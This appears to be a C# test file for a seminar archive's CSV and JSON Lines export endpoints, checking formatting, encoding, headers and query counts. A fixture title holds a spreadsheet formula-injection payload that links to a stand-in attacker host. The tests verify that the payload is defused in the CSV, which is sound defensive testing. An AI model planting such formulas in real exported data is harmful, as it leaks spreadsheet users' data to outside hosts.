using System.Net;
using System.Text;
using System.Text.Encodings.Web;
using System.Text.Json;
using SeminarArchive.Tests.Store;
using Sylvan.Data.Csv;
using static SeminarArchive.Tests.Post;

namespace SeminarArchive.Tests.Formats;

public sealed class ExportSite : IAsyncLifetime
{
    public Site Site { get; private set; } = null!;

    public async Task InitializeAsync()
    {
        Site = Site.Empty(("Site:BaseUrl", "https://seminars.example.org"));
        Site.Write(new Post("awkward.md", """
            ---
            title: '=HYPERLINK("https://evil.example/?"&A1), "loops", </script> 😀'
            date: 2020-02-13
            time: 16:00
            end: 17:30
            speakers:
              - name: Ludwig van der Berg
                affiliation: King's & Co
                orcid: 0000-0002-1825-0097
                url: https://berg.example/
              - name: 大谷直樹
                affiliation: King's & Co
            original_title: Loops
            doi: https://doi.org/10.5281/zenodo.1234567
            author: Lucy Chapman
            location: "@home"
            language: nl
            posted: 2020-02-20
            updated: 2021-03-04
            category: Handicraft
            tags: [-rope, wire]
            slides: "/slides/My deck.pdf"
            recording: https://video.example/1
            resources: [{type: paper, label: Preprint, url: https://example.org/knots}]
            ---

            First line,
            with *marks* and [a link](/slides/My%20deck.pdf "it's").

            Second; <code>&lt;a href="/x"&gt;</code>
            """));
        Site.Write("slides/My deck.pdf", "%PDF-1.4");
        Site.Write("people/otani.md", "---\nname: 大谷直樹\norcid: 0000-0001-5109-3700\nwebsite: https://example.org/ü?x=1&y=2\n---\n");
        Site.Write(Seminar("plain", "2019", more: ["slug: 日本"], body: "One line\nand another"));
        Site.Write(Seminar("gone", "2018-01-01", title: "Gone", more: ["status: withdrawn", "reason: On request"]));
        Site.Write(Seminar("draft", "2018-01-01", title: "Draft", more: ["status: draft"]));
        await Site.StartAsync();
    }

    public async Task DisposeAsync() => await Site.DisposeAsync();
}

public class ExportTests(ExportSite shared) : IClassFixture<ExportSite>
{
    private static readonly JsonSerializerOptions Readable = new() { WriteIndented = true, NewLine = "\n", Encoder = JavaScriptEncoder.UnsafeRelaxedJsonEscaping };

    [Fact]
    public async Task The_table_has_a_row_a_seminar_and_no_formulas()
    {
        var bytes = await BytesAsync("/export/seminars.csv", "text/csv; charset=utf-8");
        Assert.Equal("\uFEFFkey,title,date,"u8.ToArray(), bytes[..18]);
        var text = Encoding.UTF8.GetString(bytes.AsSpan(3));
        Assert.EndsWith(",\"One line\nand another\"\r\n", text, StringComparison.Ordinal);

        // With the reader of a library that did not write it.
        await using var csv = await CsvDataReader.CreateAsync(new StringReader(text));
        var rows = new List<Dictionary<string, string>>();
        while (await csv.ReadAsync()) rows.Add(Enumerable.Range(0, csv.RowFieldCount).ToDictionary(csv.GetName, csv.GetString, StringComparer.Ordinal));
        Assert.Equal(["awkward", "日本"], rows.Select(r => r["key"]));
        Assert.Equal(
            [
                "key: awkward", "title: '=HYPERLINK(\"https://evil.example/?\"&A1), \"loops\", </script> 😀", "date: 2020-02-13", "end_date: ", "time: 16:00", "end_time: 17:30", "time_zone: Europe/London", "event_status: scheduled", "reason: ",
                "speakers: Ludwig van der Berg; 大谷直樹", "affiliations: King's & Co", "categories: Handicraft", "tags: '-rope; wire", "location: '@home", "language: nl", "url: https://seminars.example.org/seminars/awkward/", "doi: 10.5281/zenodo.1234567",
                "slides: https://seminars.example.org/slides/My%20deck.pdf", "recordings: https://video.example/1", "posted_by: Lucy Chapman", "posted: 2020-02-20", "updated: 2021-03-04", "original_title: Loops",
                "abstract: First line,\nwith marks and a link.\n\nSecond; <a href=\"/x\">",
            ],
            rows[0].Select(c => $"{c.Key}: {c.Value}"));
        Assert.Equal(["key: 日本", "title: plain", "date: 2019", "event_status: scheduled", "language: en-GB", "url: https://seminars.example.org/seminars/%E6%97%A5%E6%9C%AC/", "abstract: One line\nand another"], rows[1].Where(c => c.Value.Length > 0).Select(c => $"{c.Key}: {c.Value}"));
    }

    [Fact]
    public async Task Each_line_is_a_seminar_with_all_that_is_known()
    {
        var bytes = await BytesAsync("/export/seminars.jsonl", "application/jsonl; charset=utf-8");
        Assert.Equal((byte)'{', bytes[0]);
        var lines = Encoding.UTF8.GetString(bytes).Split('\n');
        Assert.Equal((3, ""), (lines.Length, lines[2]));
        Assert.Equal(
            """
            {
              "key": "awkward",
              "slug": "awkward",
              "url": "https://seminars.example.org/seminars/awkward/",
              "doi": "10.5281/zenodo.1234567",
              "title": "=HYPERLINK(\"https://evil.example/?\"&A1), \"loops\", </script> 😀",
              "original_title": "Loops",
              "date": "2020-02-13",
              "end_date": null,
              "time": "16:00",
              "end_time": "17:30",
              "time_zone": "Europe/London",
              "event_status": "scheduled",
              "reason": null,
              "speakers": [
                {
                  "name": "Ludwig van der Berg",
                  "affiliation": "King's & Co",
                  "orcid": "0000-0002-1825-0097",
                  "website": "https://berg.example/",
                  "url": "https://seminars.example.org/speaker/ludwig-van-der-berg/"
                },
                {
                  "name": "大谷直樹",
                  "affiliation": "King's & Co",
                  "orcid": "0000-0001-5109-3700",
                  "website": "https://example.org/%C3%BC?x=1&y=2",
                  "url": "https://seminars.example.org/speaker/%E5%A4%A7%E8%B0%B7%E7%9B%B4%E6%A8%B9/"
                }
              ],
              "posted_by": [
                {
                  "name": "Lucy Chapman",
                  "url": "https://seminars.example.org/author/lucy-chapman/"
                }
              ],
              "posted": "2020-02-20",
              "updated": "2021-03-04",
              "changed": "2021-03-04T00:00:00Z",
              "categories": [
                {
                  "name": "Handicraft",
                  "url": "https://seminars.example.org/category/handicraft/"
                }
              ],
              "tags": [
                {
                  "name": "-rope",
                  "url": "https://seminars.example.org/tag/rope/"
                },
                {
                  "name": "wire",
                  "url": "https://seminars.example.org/tag/wire/"
                }
              ],
              "location": "@home",
              "language": "nl",
              "abstract": "First line,\nwith marks and a link.\n\nSecond; <a href=\"/x\">",
              "abstract_html": "<p>First line,\nwith <em>marks</em> and <a href=\"https://seminars.example.org/slides/My%20deck.pdf\" title=\"it's\">a link</a>.</p>\n<p>Second; <code>&lt;a href=\"/x\"&gt;</code></p>",
              "resources": [
                {
                  "type": "slides",
                  "label": null,
                  "url": "https://seminars.example.org/slides/My%20deck.pdf",
                  "size": 8
                },
                {
                  "type": "recording",
                  "label": null,
                  "url": "https://video.example/1",
                  "size": null
                },
                {
                  "type": "paper",
                  "label": "Preprint",
                  "url": "https://example.org/knots",
                  "size": null
                }
              ]
            }
            """.ReplaceLineEndings("\n"),
            Indented(lines[0]));
        using var plain = JsonDocument.Parse(lines[1]);
        Assert.Equal(("日本", "2019", JsonValueKind.Null, 0, "<p>One line\nand another</p>"), (plain.RootElement.GetProperty("slug").GetString(), plain.RootElement.GetProperty("date").GetString(), plain.RootElement.GetProperty("time_zone").ValueKind, plain.RootElement.GetProperty("speakers").GetArrayLength(), plain.RootElement.GetProperty("abstract_html").GetString()));
    }

    [Theory]
    [InlineData("/export/seminars.csv")]
    [InlineData("/export/seminars.jsonl")]
    public async Task Is_saved_as_a_file_and_answers_head(string address)
    {
        using var head = await shared.Site.SendAsync(new HttpRequestMessage(HttpMethod.Head, address));

        Assert.Equal((HttpStatusCode.OK, "", "attachment", Path.GetFileName(address)), (head.StatusCode, await head.Content.ReadAsStringAsync(), head.Content.Headers.ContentDisposition?.DispositionType, head.Content.Headers.ContentDisposition?.FileName?.Trim('"')));
    }

    [Theory]
    [InlineData("2020-02-13", "14:00", "15:30", "Europe/London")]
    [InlineData("2020-02", null, null, null)]
    [InlineData("2020", null, null, null)]
    public async Task A_time_stands_beside_a_day_only_here_and_in_the_API(string date, string? time, string? end, string? zone)
    {
        await using var site = await Site.With(Seminar("knots", date, more: "time: 14:00-15:30"));

        using var line = JsonDocument.Parse(await site.GetStringAsync("/export/seminars.jsonl"));
        using var seminar = JsonDocument.Parse(await site.GetStringAsync("/api/seminars/knots"));
        Assert.Equal([time, end, zone], new[] { "time", "end_time", "time_zone" }.Select(name => line.RootElement.GetProperty(name).GetString()));
        Assert.Equal([time, end, zone], new[] { "start", "end", "timeZone" }.Select(name => seminar.RootElement.TryGetProperty(name, out var value) ? value.GetString()!.Split('T')[^1].Split(":00+")[0] : null));
        Assert.Contains($"\nknots,knots,{date},,{time},{end},{zone},scheduled,", (await site.GetStringAsync("/export/seminars.csv")).ReplaceLineEndings("\n"), StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_page_says_what_there_is_and_how_much()
    {
        var page = await shared.Site.GetPageAsync("/export/");

        Assert.Equal(["/export/seminars.csv", "/export/seminars.jsonl", "/calendar.ics"], page.Links("main dt a"));
        Assert.StartsWith("2 seminars, one a row", page.Texts("main dd").First(), StringComparison.Ordinal);
        Assert.StartsWith("1 seminar, to subscribe to in a calendar. Those of which only the month or the year is known are left out.", page.Texts("main dd").Last(), StringComparison.Ordinal);
        Assert.Equal(["Export"], page.Texts("footer a[href='/export/']"));
    }

    [Theory]
    [InlineData("- Jane Doe\n  - John Roe", "", "")]
    [InlineData("- Jane Doe\n  - John Roe", "UCL; KCL", "UCL, KCL")]
    [InlineData("- name: Jane Doe\n    affiliation: UCL\n  - John Roe\n  - name: Ann Poe\n    affiliation: UCL", "", "UCL; ; UCL")]
    public async Task Affiliations_stand_in_the_order_of_the_speakers(string speakers, string affiliation, string cell)
    {
        await using var site = await Site.With(Seminar("a", "2020-02-13", more: [$"speakers:\n  {speakers}", $"affiliation: {affiliation}"]));
        await using var csv = await CsvDataReader.CreateAsync(new StringReader((await site.GetStringAsync("/export/seminars.csv")).TrimStart('\uFEFF')));

        Assert.True(await csv.ReadAsync());
        Assert.Equal(cell, csv.GetString(csv.GetOrdinal("affiliations")));
    }

    [Fact]
    public async Task The_whole_archive_takes_as_many_commands_as_one_seminar()
    {
        foreach (var address in (string[])["/export/seminars.csv", "/export/seminars.jsonl", "/calendar.ics"])
        {
            var (few, many) = (await CommandsAsync(1, address), await CommandsAsync(150, address));
            Assert.Equal((address, few), (address, many));
        }
    }

    private static async Task<int> CommandsAsync(int seminars, string address)
    {
        await using var site = await Site.With([.. Enumerable.Range(0, seminars).Select(i => Seminar($"s{i}", "2020-02-13", speaker: $"Guest {i}", more: ["tags: [a, b]", "slides: https://example.org/x.pdf"]))]);
        using var count = new CommandCount(site.Database);
        return await count.OfAsync(async () => await (await site.GetAsync(address)).Content.ReadAsByteArrayAsync());
    }

    private static string Indented(string json)
    {
        using var document = JsonDocument.Parse(json);
        return JsonSerializer.Serialize(document, Readable).Replace("\\uD83D\\uDE00", "😀", StringComparison.Ordinal);
    }

    private async Task<byte[]> BytesAsync(string address, string type)
    {
        using var answer = await shared.Site.GetAsync(address);
        Assert.Equal((HttpStatusCode.OK, type), (answer.StatusCode, answer.Content.Headers.ContentType?.ToString()));
        return await answer.Content.ReadAsByteArrayAsync();
    }
}
